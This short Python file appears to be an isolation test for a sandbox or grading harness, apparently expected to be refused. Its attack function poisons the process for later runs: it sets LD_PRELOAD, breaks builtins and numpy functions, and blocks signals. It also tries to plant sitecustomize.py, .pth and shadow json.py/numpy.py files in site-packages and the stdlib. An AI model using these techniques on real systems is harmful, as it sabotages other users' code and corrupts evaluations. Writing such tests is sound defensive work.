"""Goal: leave a changed process to the next candidate: folder, mask, path, seeds, limits, hooks"""
# held: refused

import builtins, locale, os, random, resource, signal, site, sys, sysconfig, warnings
import numpy as np

def attack():
    os.umask(0o777)
    os.chdir('/')
    os.environ.clear()
    os.environ['PYTHONPATH'] = os.environ['LD_PRELOAD'] = '/tmp'
    random.seed(1)
    np.random.seed(1)
    np.seterr(all='raise')
    np.set_printoptions(precision=1)
    sys.path[:] = ['/tmp']
    sys.meta_path.clear()
    sys.path_hooks.clear()
    sys.setrecursionlimit(60)
    sys.setswitchinterval(100)
    sys.set_int_max_str_digits(0)
    sys.dont_write_bytecode = False
    builtins.sum = builtins.sorted = builtins.max = lambda *args: 0
    np.sum = np.arange = None
    warnings.simplefilter('error')
    signal.pthread_sigmask(signal.SIG_BLOCK, signal.valid_signals())
    signal.signal(signal.SIGINT, signal.SIG_IGN)
    resource.setrlimit(resource.RLIMIT_FSIZE, (0, 0))
    for name in ('sitecustomize.py', 'usercustomize.py', 'left.pth', '__pycache__', 'json.py', 'numpy.py'):
        for folder in ('/tmp', '/packages', *site.getsitepackages(), sysconfig.get_path('stdlib')):
            try:
                open(os.path.join(folder, name), 'w').close()
                if folder != '/tmp':
                    return True
            except OSError:
                pass
    return False
